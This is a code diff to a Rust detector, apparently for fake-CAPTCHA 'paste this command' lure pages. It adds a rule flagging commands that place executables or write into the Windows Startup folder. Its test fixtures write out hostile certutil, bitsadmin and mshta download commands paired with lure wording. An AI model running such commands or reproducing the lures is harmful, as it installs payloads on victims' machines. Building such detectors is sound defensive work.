@@ -223,12 +223,29 @@ impl Command {
         })
     }
 
+    /// The command writes a program where it runs (an `.exe`, a script, a shortcut) or into a
+    /// Startup folder: a lure's payload, whatever the page says around it (a wiki's download
+    /// example fetches an archive or a document).
+    fn places_program(&self) -> bool {
+        has(&self.flat, "startup")
+            || tokens(&self.flat).iter().any(|t| {
+                let t = t.trim_matches(['"', '\'']);
+                [
+                    ".exe", ".scr", ".dll", ".bat", ".cmd", ".ps1", ".vbs", ".js", ".hta", ".lnk",
+                    ".jar",
+                ]
+                .iter()
+                .any(|x| t.ends_with(x))
+            })
+    }
+
     /// A reference page's example: one command (nothing chained or piped: a lure runs what it
     /// fetched), fetching nothing or only over `https://` from host names, of the shapes a
     /// sysadmin wiki lists (`certutil -urlcache -f https://…`, `bitsadmin /transfer`, a local
     /// `mshta`, a flagged `powershell`); never a download run, a hidden or encoded script.
     fn reference_like(&self) -> bool {
         (!self.remote || !self.https_sites.is_empty())
+            && !self.places_program()
             && !self.padded
             && !self.comment_pretext
             && !self.flat.bytes().any(|b| matches!(b, b'&' | b'|' | b';'))
@@ -2159,6 +2176,28 @@ mod tests {
                 "Your browser is out of date.",
             ),
             ("mshta \\\\203.0.113.9\\pub\\v.hta", "To continue."),
+        ] {
+            assert!(
+                judged(clip, &format!("{before} {steps}{clip}")),
+                "{before} {clip}"
+            );
+        }
+        // A program (or anything into Startup) fetched next to bare Run-box steps is a payload,
+        // whatever words the page uses around it (review: "confirm you are not an automated
+        // program", "a driver update is needed to play this video").
+        for (clip, before) in [
+            (
+                "certutil -urlcache -split -f https://cdn-x.example/v.exe %TEMP%\\v.exe",
+                "Confirm you are not an automated program.",
+            ),
+            (
+                "bitsadmin /transfer u https://cdn-x.example/u.exe \"%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.exe\"",
+                "A driver update is needed to play this video.",
+            ),
+            (
+                "certutil -urlcache -split -f https://cdn-x.example/doc.pdf \"%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\doc.pdf\"",
+                "To open the shared document.",
+            ),
         ] {
             assert!(
                 judged(clip, &format!("{before} {steps}{clip}")),
